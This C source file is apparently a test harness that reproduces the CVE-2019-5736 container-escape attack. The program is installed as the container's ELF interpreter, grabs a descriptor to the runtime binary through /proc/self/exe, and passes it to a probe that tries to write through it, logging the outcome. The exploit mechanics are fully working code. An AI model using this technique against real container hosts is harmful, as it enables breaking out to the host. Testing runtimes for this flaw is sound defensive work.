/* evil_interp — the CVE-2019-5736 attack, as a test.  Installed in the
 * container as /lib64/ld-linux-x86-64.so.2, it runs whenever a dynamically
 * linked binary is executed in the container — including the runtime
 * itself, reached through a "#!/proc/self/exe" entrypoint.  It records
 * where /proc/self/exe points (/tmp/exe-link), holds it open, and hands the
 * fd to `probe writeexe`, which outlives the runtime and tries to write
 * through it (recording the result in /tmp/attack).
 *
 * No libc: as an ELF interpreter it gets the runtime's auxiliary vector,
 * which libc's start-up code would misread. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>

static long sys(long n, long a, long b, long c, long d) {
  long r;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall"
                   : "=a"(r)
                   : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return r;
}

static unsigned long len(const char *s) {
  unsigned long n = 0;
  while (s[n])
    n++;
  return n;
}

static void put(int fd, const char *s) {
  sys(SYS_write, fd, (long)s, (long)len(s), 0);
}

static void num(char *out, long v) {
  char tmp[24];
  int n = 0, neg = v < 0;
  unsigned long u = neg ? (unsigned long)-v : (unsigned long)v;
  do
    tmp[n++] = (char)('0' + u % 10);
  while ((u /= 10) != 0);
  int o = 0;
  if (neg)
    out[o++] = '-';
  while (n > 0)
    out[o++] = tmp[--n];
  out[o] = '\0';
}

static void record(const char *what, long v) {
  long fd = sys(SYS_openat, AT_FDCWD, (long)"/tmp/attack", O_WRONLY | O_CREAT | O_APPEND, 0644);
  char buf[24];
  num(buf, v);
  put((int)fd, what);
  put((int)fd, buf);
  put((int)fd, "\n");
  sys(SYS_close, fd, 0, 0, 0);
}

__attribute__((force_align_arg_pointer, noreturn)) void _start(void) {
  char link[256];
  long n = sys(SYS_readlinkat, AT_FDCWD, (long)"/proc/self/exe", (long)link, sizeof(link) - 1);
  if (n > 0) {
    link[n] = '\0';
    long fd = sys(SYS_openat, AT_FDCWD, (long)"/tmp/exe-link", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    put((int)fd, link);
    sys(SYS_close, fd, 0, 0, 0);
  }
  long exe = sys(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
  if (sys(SYS_fork, 0, 0, 0, 0) == 0) {
    /* The second stage must not run the runtime's image itself (that alone
     * would keep the file busy): /probe takes over, holding only the fd. */
    char fd[24];
    num(fd, exe);
    const char *argv[] = {"/probe", "writeexe", fd, 0};
    const char *envp[] = {0};
    sys(SYS_execve, (long)"/probe", (long)argv, (long)envp, 0);
    record("execve /probe ", -1);
  }
  sys(SYS_exit_group, 0, 0, 0, 0);
  __builtin_unreachable();
}
